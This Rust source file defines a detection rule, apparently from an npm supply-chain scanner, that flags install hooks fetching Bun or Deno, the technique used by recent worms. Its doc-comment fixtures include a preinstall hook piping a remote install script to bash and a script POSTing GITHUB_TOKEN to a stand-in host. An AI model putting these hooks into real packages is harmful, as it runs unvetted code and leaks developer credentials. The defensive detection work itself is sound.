//! # Another runtime is fetched at install
//!
//! A hook, or code that a hook starts, downloads or installs Bun, Deno or another Node.
//!
//! ## Why it matters
//!
//! Worms since 2025 run their payload in a runtime of their own, where hooks and monitors of Node do not see
//! it, and where a bundle of ten megabytes starts at once.
//!
//! ## Known benign uses
//!
//! Packages whose purpose is the runtime: `bun`, `deno`, `node` and version managers. A library never needs
//! one at install.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "node setup.js"}}
//! == setup.js
//! const { execSync } = require("child_process");
//! execSync("curl -fsSL https://bun.sh/install | bash", { stdio: "ignore" }); //~ here
//! ```
//!
//! ```package
//! == package.json //~ 1
//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "npm install -g bun && bun run bundle.js"}}
//! == bundle.js
//! fetch("https://drop.invalid/", { method: "POST", body: process.env.GITHUB_TOKEN });
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js", "scripts": {"test": "bun test", "build": "bun build index.js"}}
//! == index.js
//! exports.runtime = typeof Bun === "undefined" ? "node" : "bun";
//! ```
//!
//! ## References
//!
//! - Wiz: Shai-Hulud 2.0 supply chain attack (November 2025)

use crate::prelude::*;

/// Another runtime is fetched at install.
pub struct SecondRuntimeFetched;

impl Rule for SecondRuntimeFetched {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "second-runtime-fetched",
            title: "Another runtime is fetched at install",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1105",
            covers: &["runtime-download-bun"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let name = facts.manifest().and_then(|manifest| manifest.name.as_deref()).unwrap_or_default();
        // A project decides for itself what its own machines need.
        if facts.context().origin == Origin::Project {
            return;
        }
        let dependencies = facts.manifest().map(|manifest| &manifest.dependencies);
        let has = |runtime: &str| {
            dependencies
                .is_some_and(|all| all.production.contains_key(runtime) || all.optional.contains_key(runtime))
        };
        for command in facts.commands().iter().filter(|command| command.trigger == Trigger::Install) {
            let by_behaviour = command.behaviours.iter().find_map(|kind| match kind {
                BehaviourKind::RunsRuntimeDownload { runtime } => Some(*runtime),
                _ => None,
            });
            let by_package = || command.runs.iter().find_map(package_of_runtime);
            let is_hook = matches!(command.origin, CommandOrigin::Hook(_));
            let by_dependency = || {
                RUNTIMES
                    .into_iter()
                    .find(|runtime| is_hook && has(runtime) && command.text.starts_with(runtime))
            };
            if let Some(runtime) = by_behaviour
                .or_else(by_package)
                .or_else(by_dependency)
                .filter(|runtime| !is_for(name, runtime))
            {
                found.at(command.trigger, &command.locus, &format!("fetches the runtime `{runtime}`"));
            }
        }
    }
}

const RUNTIMES: [&str; 2] = ["bun", "deno"];

/// The runtime that a package manager is told to fetch: `npx bun x.js`, `npm i bun@1`.
fn package_of_runtime(run: &Run) -> Option<&'static str> {
    let is_runtime = |word: &str| {
        RUNTIMES.into_iter().find(|runtime| {
            word == *runtime || word.strip_prefix(runtime).is_some_and(|rest| rest.starts_with('@'))
        })
    };
    match run {
        Run::Package { name } => is_runtime(name),
        Run::Program { name, arguments } if matches!(name.as_str(), "npm" | "pnpm" | "yarn") => {
            let installs = arguments.iter().any(|word| matches!(word.as_str(), "install" | "i" | "add"));
            arguments.iter().filter(|_| installs).find_map(|word| is_runtime(word))
        }
        _ => None,
    }
}

/// Whether a package of this name is there to bring the runtime.
fn is_for(name: &str, runtime: &str) -> bool {
    let bare = name.rsplit('/').next().unwrap_or(name);
    bare.strip_prefix(runtime).is_some_and(|rest| rest.is_empty() || rest.starts_with('-'))
}
